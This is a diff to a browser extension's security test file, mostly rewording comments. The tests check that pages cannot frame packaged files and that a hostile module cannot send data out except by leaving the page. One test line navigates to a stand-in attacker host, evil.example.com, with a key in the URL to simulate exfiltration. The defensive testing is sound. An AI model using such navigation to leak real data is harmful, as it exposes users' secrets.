@@ -16,7 +16,7 @@ import { ids } from '../../sandbox/seed.ts';
 
 const story = useConnectedStory();
 
-/** All that is stored, but for the tokens that a content script may ask for. */
+/** Everything stored, except the tokens that a content script may request. */
 // What a page says of itself may change its own card's token and what the toolbar button shows on its tab.
 const stored = () =>
   story.evaluateInWorker(`Promise.all([
@@ -107,17 +107,17 @@ async function frameEach(page: Page, addresses: readonly string[]): Promise<stri
   return shown.map(String).filter((address) => address.startsWith('chrome-extension:'));
 }
 
-it('lets nobody frame a file of the package, but Close the card', async () => {
+it('lets no page frame a file of the package, except Close the card', async () => {
   const all = (await readdir(buildFolder, { recursive: true, withFileTypes: true }))
     .filter((entry) => entry.isFile())
     .map(({ parentPath, name }) => join(parentPath, name).slice(buildFolder.length + 1));
-  // Every page, and one file of each other kind: the manifest names what may be framed, and `walls.test.ts` reads it.
+  // Every page, and one file of each other kind: the manifest names what may be framed, and `content-scripts.test.ts` reads it.
   const kinds = new Map(all.map((file) => [extname(file), file]));
   const files = [...new Set([...all.filter((file) => file.endsWith('.html')), ...kinds.values()])];
   expect(files.length).toBeGreaterThan(8);
   const close = await story.newPage(leadPage());
   const asContentScript = await contentScriptOf(close);
-  // The name that stands for the extension until the browser ends, as a page may learn it from a frame.
+  // The dynamic id of the extension, which lasts until the browser ends and which a page may learn from a frame.
   const secret = String(await asContentScript("new URL(chrome.runtime.getURL('/card.html')).origin"));
   const own = `chrome-extension://${story.extensionId}`;
   expect(secret).not.toBe(own);
@@ -203,7 +203,7 @@ async function tryWaysOut(page: Page): Promise<string[]> {
   })()`)) as string[];
 }
 
-/** What came to hosts that nobody should call. A set, because the browser asks once more where a host says that it is the wrong one. */
+/** Requests to hosts that must get none. A set, because the browser repeats a request that a host calls misdirected. */
 function arrivals(): string[] {
   const paths = new Set(story.sandbox.strayRequests.map(({ path }) => path.slice(1)));
   paths.delete('favicon.ico');
@@ -219,7 +219,7 @@ it('lets a hostile module of its own send nothing out, but by leaving the page',
   // No policy holds a page back from leaving, which is why the package is searched for that.
   await page.evaluate("location.href = 'https://evil.example.com/navigation?key'");
   await waitFor('the navigation', () => story.sandbox.strayRequests.length > 0);
-  // Its request arrives before the page is left, and what is tried until then ends with it.
+  // Its request arrives before the page is left, which ends all other attempts.
   await waitFor('the other page', () =>
     page
       .evaluate("location.host === 'evil.example.com' && document.readyState === 'complete'")
@@ -228,7 +228,7 @@ it('lets a hostile module of its own send nothing out, but by leaving the page',
   expect(arrivals()).toEqual(['navigation']);
   // Where that page came to there is no policy: every way that was tried arrives from there, and is counted.
   story.sandbox.strayRequests.length = 0;
-  // Not waited for: some of what is sent is not answered.
+  // Not awaited, because some of the messages get no answer.
   void tryWaysOut(page).catch(() => {});
   await waitFor('the form', () => arrivals().includes('form'));
   // It opened a tab, and a page behind another one loads no media.
